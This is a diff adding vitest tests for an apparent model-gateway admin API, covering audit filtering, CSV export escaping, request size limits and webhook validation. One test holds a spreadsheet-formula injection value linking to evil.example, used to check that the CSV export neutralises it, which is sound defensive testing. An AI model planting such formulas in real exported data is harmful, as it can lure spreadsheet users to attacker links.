@@ -1,6 +1,6 @@
 import { env } from 'cloudflare:workers'
 import { describe, expect, it, inject } from 'vitest'
-import { ADMIN, APPROVER, admin, adminOk, infer, problemOf, setupModel, uniqueModel } from './helpers/harness'
+import { ADMIN, APPROVER, admin, adminOk, call, infer, problemOf, setupModel, uniqueModel } from './helpers/harness'
 
 describe('admin auth', () => {
   it.each([
@@ -261,6 +261,50 @@ describe('rollback and audit', () => {
     expect(page2.entries.map((e: any) => e.seq)).toEqual([3])
     const future = await adminOk('GET', `/audit?model=${model}&from=2999-01-01T00:00:00Z`)
     expect(future.entries).toEqual([])
+  })
+
+  it('filters by time correctly within the first second (stored times carry milliseconds)', async () => {
+    const model = uniqueModel('auditsec')
+    await setupModel(model, { versions: { v1: inject('upstreamA') }, champion: 'v1' })
+    const all = (await adminOk('GET', `/audit?model=${model}`)).entries
+    const first = all[0].at as string // e.g. 2026-11-26T22:45:49.011Z
+    const secondStart = `${first.slice(0, 19)}Z`
+    const from = await adminOk('GET', `/audit?model=${model}&from=${secondStart}`)
+    expect(from.entries.length).toBe(all.filter((e: any) => e.at >= `${first.slice(0, 19)}.000Z`).length)
+    expect(from.entries.length).toBeGreaterThan(0)
+  })
+
+  it('neutralises spreadsheet formulas in the CSV export', async () => {
+    const model = uniqueModel('csvinj')
+    await setupModel(model, { versions: { v1: inject('upstreamA') }, champion: 'v1' })
+    await adminOk('POST', `/models/${model}/rollback`, { reason: '=HYPERLINK("http://evil.example/?x","click")' })
+    const csv = await (await admin('GET', `/audit?model=${model}&format=csv`)).text()
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""click"")"`)
+    expect(csv).not.toMatch(/,"?=HYPERLINK/)
+  })
+})
+
+describe('request limits and small validations', () => {
+  it('refuses an admin or outcomes body above 1 MiB with 413 problem+json', async () => {
+    const big = JSON.stringify({ risk: 'low', pad: 'x'.repeat(1024 * 1024) })
+    const res = await admin('PUT', `/models/${uniqueModel('big')}`, undefined, { raw: big, headers: { 'content-type': 'application/json' } })
+    expect(res.status).toBe(413)
+    expect((await problemOf(res)).code).toBe('payload_too_large')
+    const outcomes = await call(new Request('http://gateway.test/v1/outcomes', { method: 'POST', headers: { 'content-type': 'application/json' }, body: big }))
+    expect(outcomes.status).toBe(413)
+  })
+
+  it('refuses a PagerDuty webhook without its routing key', async () => {
+    const model = uniqueModel('pd')
+    await adminOk('PUT', `/models/${model}`, { risk: 'low' }, 201)
+    const res = await admin('PUT', `/models/${model}/webhooks`, { webhooks: [{ url: 'https://events.pagerduty.com/v2/enqueue', format: 'pagerduty' }] })
+    expect(res.status).toBe(400)
+    expect((await problemOf(res)).errors.map((e: any) => e.field)).toContain('webhooks.0.routing_key')
+  })
+
+  it('refuses an action item index that is not a number (a blank is not item 0)', async () => {
+    const res = await admin('POST', '/incidents/inc_0123456789abcdefghijklmn/action-items/%20/close')
+    expect(res.status).toBe(400)
   })
 })
 
